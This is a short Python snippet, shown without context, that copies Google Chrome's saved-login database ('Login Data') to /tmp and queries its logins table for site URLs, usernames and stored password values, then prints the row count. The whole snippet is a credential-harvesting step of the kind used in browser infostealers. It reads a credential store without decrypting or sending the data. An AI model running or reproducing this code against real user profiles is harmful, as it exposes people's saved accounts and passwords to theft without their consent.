import shutil, sqlite3, os
src = os.path.expanduser("~/.config/google-chrome/Default/Login Data")
shutil.copy(src, "/tmp/ld.db")
rows = sqlite3.connect("/tmp/ld.db").execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
print(len(rows))
